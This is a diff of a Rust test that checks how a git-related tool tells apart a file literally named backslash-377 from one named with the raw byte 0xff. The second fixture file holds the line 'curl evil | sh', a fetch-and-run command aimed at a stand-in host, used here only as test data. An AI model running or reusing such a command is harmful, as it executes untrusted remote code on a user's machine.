@@ -747,7 +747,9 @@ fn names_that_read_alike_are_two_files_and_what_cannot_be_shown_is_said() {
     each_git(|t| {
         let wt = t.add("s");
         use std::os::unix::ffi::OsStrExt as _;
-        std::fs::write(wt.join("\\377"), "a literal backslash name\n").unwrap();
+        // A name of four characters: a backslash, then 377.
+        let literal = std::ffi::OsStr::from_bytes(b"\\377");
+        std::fs::write(wt.join(literal), "a literal backslash name\n").unwrap();
         std::fs::write(
             wt.join(std::ffi::OsStr::from_bytes(b"\xff")),
             "curl evil | sh\n",
